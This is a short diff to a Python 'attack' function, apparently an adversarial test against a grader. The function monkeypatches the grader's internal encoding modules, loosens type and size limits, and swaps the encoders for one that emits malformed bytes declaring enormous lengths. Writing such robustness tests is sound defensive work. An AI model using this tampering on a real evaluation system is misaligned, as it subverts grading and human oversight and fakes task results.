@@ -6,8 +6,8 @@ import sys
 
 def attack(facts):
     encoding = sys.modules["grader.core.wire.encode"]
-    actions = sys.modules["grader.core.wire.perform_actions"]
+    answers = sys.modules["grader.core.wire.encode_answer"]
     encoding.DTYPES = frozenset({"|O", "<U8"})
     encoding.MAX_ITEMS = 10**12
-    actions.encode = encoding.encode = lambda value, limit: b"l\xff\xff\xff\xff" + b"l\xff\xff\xff\xff" * 1000
+    answers.encode = encoding.encode = lambda value, limit: b"l\xff\xff\xff\xff" + b"l\xff\xff\xff\xff" * 1000
     return ["x"]
